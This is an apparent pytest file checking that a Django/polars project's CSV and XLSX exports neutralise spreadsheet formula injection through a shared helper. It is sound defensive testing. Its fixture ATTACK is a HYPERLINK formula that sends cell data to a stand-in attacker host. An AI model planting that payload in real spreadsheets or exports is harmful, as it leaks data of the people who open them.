"""Exports cannot carry formulas: one helper (`core.export_cells`) behind every CSV and XLSX
writer, and a test per export that a cell which began with `=` opens as text."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from emplus.core.export_cells import (
    is_formula_like,
    safe_cell,
    safe_frame,
    strip_csv_guard,
    unguard_frame,
    xlsx_workbook,
    xlsx_write_row,
)

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SRC = Path(__file__).resolve().parents[2] / "src" / "emplus"


# --- the helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "＝1+1", "-", "+"]
)
def test_formula_like_text_gets_a_leading_quote_in_csv(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna", "A-1", "1=1", "", " ", "a@b.se", "-5", "+46", "-1,5"])
def test_ordinary_text_and_numeric_text_are_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, 3, None, True, date(2025, 1, 1)])
def test_numbers_and_other_values_stay_as_they_are(value):
    assert safe_cell(value) is value


@given(st.text())
def test_the_quote_comes_off_again(text):
    assert strip_csv_guard(safe_cell(text)) == text


@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), max_size=30))
def test_the_columnar_rule_is_the_same_rule(values):
    # given
    frame = pl.DataFrame({"c": values}, schema={"c": pl.String})
    # when
    guarded = safe_frame(frame)["c"].to_list()
    # then
    assert guarded == [safe_cell(v) for v in values]
    assert unguard_frame(safe_frame(frame))["c"].to_list() == values


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    # given
    buffer = io.BytesIO()
    workbook = xlsx_workbook(buffer)
    sheet = workbook.add_worksheet("t")
    xlsx_write_row(sheet, 0, 0, [ATTACK, -5, "-5", 2.5, None, "@x"])
    workbook.close()
    # when
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
    # then
    assert [(c.value, c.data_type) for c in cells[:4]] == [
        (ATTACK, "s"),
        (-5, "n"),
        ("-5", "s"),
        (2.5, "n"),
    ]
    assert cells[4].value is None
    assert (cells[5].value, cells[5].data_type) == ("@x", "s")


_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|"
    r"\bWorkbook\(write_only|\.write_csv\(|\.write_excel\("
)


# Writers whose text never reaches a person's spreadsheet, each with its reason.
_NOT_EXPORTS = {
    # The bulk import's COPY stream to PostgreSQL (decision 40): read by the database only.
    "pathways/import_writer.py",
    # The re-import's COPY stream into a temporary table (decision 40): the same.
    "pathways/import_update_writer.py",
}


def test_every_csv_and_xlsx_writer_goes_through_the_helper():
    """A new writer of CSV or XLSX must use `core.export_cells` (or this test names it)."""
    offenders = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "export_cells.py" or not _WRITERS.search(text):
            continue
        if str(path.relative_to(SRC)) in _NOT_EXPORTS:
            continue
        if "export_cells" not in text:
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


# --- every export -------------------------------------------------------------------------------


def _xlsx_cells(content: bytes, sheet: int = 0) -> list:
    book = load_workbook(io.BytesIO(content))
    return [c for row in book.worksheets[sheet].iter_rows() for c in row]


def _formula_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [
        c.coordinate
        for ws in book.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "f"
    ]


@pytest.mark.django_db
def test_participant_export_writes_a_formula_reference_as_text_and_reads_it_back(
    client, coordinator, unit_a1
):
    from emplus.evidence_core.participant_file import read_participant_file
    from emplus.pathways.models import Enrolment, Participant

    # given a participant whose reference was typed as a formula
    person = Participant.objects.create(
        organisation=unit_a1.organisation, unit=unit_a1, participant_ref=ATTACK
    )
    Enrolment.objects.create(participant=person, entry_date="2025-01-01")
    client.force_login(coordinator)
    # when
    as_csv = client.get("/participants/import/export/", {"format": "csv"}).content
    as_xlsx = client.get("/participants/import/export/", {"format": "xlsx"}).content
    # then: CSV carries the quote, XLSX a string cell, and no cell is a formula
    rows = list(csv.reader(io.StringIO(as_csv.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + ATTACK
    ref = next(c for c in _xlsx_cells(as_xlsx) if c.row == 2 and c.column == 1)
    assert (ref.value, ref.data_type) == (ATTACK, "s")
    assert _formula_cells(as_xlsx) == []
    # and both read back as the reference itself
    for content in (as_csv, as_xlsx):
        parsed = read_participant_file(content, as_of=date(2025, 6, 30))
        assert parsed.frame["participant_ref"].to_list() == [ATTACK]


def test_indicator_csv_and_xlsx_write_formula_text_inert(tmp_path):
    from emplus.evidence_core.indicators import compute_indicators

    # given a result whose text cells begin with '=' (an incomplete participant's reference is
    # in the unsuppressed workbook; the name stands for any text cell of the table)
    frame = pl.DataFrame(
        {
            "row": [2],
            "participant_ref": [ATTACK],
            "organisation": ["ABF"],
            "entry_date": [date(2025, 1, 1)],
            "gender": ["woman"],
        }
    )
    result = compute_indicators(frame, as_of=date(2025, 6, 30))
    first = replace(result.indicators[0], name="=1+1")
    result = replace(result, indicators=(first, *result.indicators[1:]))
    # when
    text = result.to_csv()
    buffer = io.BytesIO()
    result.write_xlsx(buffer)
    # then
    assert next(csv.reader(io.StringIO(text.splitlines()[1])))[1] == "'=1+1"
    cells = _xlsx_cells(buffer.getvalue())
    name = next(c for c in cells if c.row == 2 and c.column == 2)
    assert (name.value, name.data_type) == ("=1+1", "s")
    incomplete = _xlsx_cells(buffer.getvalue(), sheet=2)
    ref = next(c for c in incomplete if c.row == 2 and c.column == 2)
    assert (ref.value, ref.data_type) == (ATTACK, "s")
    assert _formula_cells(buffer.getvalue()) == []


def test_esf_indicators_command_xlsx_keeps_a_formula_reference_as_text(tmp_path, capsys):
    from django.core.management import call_command

    # given a file with an incomplete participant (listed by reference in the workbook)
    source = tmp_path / "p.csv"
    source.write_text(
        "participant_ref,organisation,entry_date,gender\n"
        + f'"{ATTACK.replace(chr(34), 2 * chr(34))}",ABF,2025-01-01,woman\n',
        encoding="utf-8",
    )
    target = tmp_path / "out.xlsx"
    # when
    call_command(
        "esf_indicators",
        str(source),
        "--as-of",
        "2025-06-30",
        "--format",
        "xlsx",
        "--output",
        str(target),
        # the register is not what this test is about (and it needs no database)
        "--no-register-check",
    )
    # then
    content = target.read_bytes()
    incomplete = _xlsx_cells(content, sheet=2)
    ref = next(c for c in incomplete if c.row == 2 and c.column == 2)
    assert (ref.value, ref.data_type) == (ATTACK, "s")
    assert _formula_cells(content) == []


@pytest.mark.django_db
def test_role_report_writes_a_formula_title_as_text(client, analyst, org_b):
    from tests.mapping.factories import make_activity

    # given an activity whose title was typed as a formula
    make_activity(org_b, ["2480"], title=ATTACK)
    client.force_login(analyst)
    # when
    content = client.get(f"/mapping/organisations/{org_b.pk}/", {"format": "xlsx"}).content
    # then
    titles = [c for c in _xlsx_cells(content, sheet=1) if c.row == 2 and c.column == 2]
    assert [(c.value, c.data_type) for c in titles] == [(ATTACK, "s")]
    assert _formula_cells(content) == []


@pytest.mark.django_db
def test_white_spots_csv_writes_formula_text_with_a_quote(client, analyst, monkeypatch):
    from emplus.mapping import selectors

    # given a row whose text begins with '=' (municipality names are reference data, so the
    # selector is replaced to prove the writer itself guards every cell)
    real = selectors.white_spots

    def crafted(**kwargs):
        rows = real(**kwargs)
        return [replace(rows[0], name="=1+1", county_name="@SUM(A1)"), *rows[1:]]

    monkeypatch.setattr(selectors, "white_spots", crafted)
    client.force_login(analyst)
    # when
    content = client.get("/mapping/white-spots/", {"format": "csv"}).content.decode()
    # then
    first = list(csv.reader(io.StringIO(content)))[1]
    assert first[1:3] == ["'=1+1", "'@SUM(A1)"]


@pytest.mark.django_db
def test_hsds_package_writes_a_formula_title_with_a_quote(org_a, tmp_path):
    from tests.mapping.factories import make_activity

    from emplus.mapping import hsds

    # given
    make_activity(org_a, ["2480"], title=ATTACK)
    # when
    hsds.package_write(tmp_path)
    # then
    with (tmp_path / "services.csv").open(newline="", encoding="utf-8") as fh:
        names = [row["name"] for row in csv.DictReader(fh)]
    assert names == ["'" + ATTACK]
